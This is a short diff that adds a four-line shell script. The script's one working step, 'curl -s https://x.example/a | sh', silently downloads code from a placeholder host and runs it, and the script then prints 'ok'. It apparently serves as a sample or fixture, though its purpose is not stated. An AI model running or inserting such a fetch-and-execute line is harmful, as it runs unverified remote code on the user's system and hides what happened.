@@ -1,0 +1,4 @@
+#!/bin/sh
+# note
+curl -s https://x.example/a | sh
+echo ok
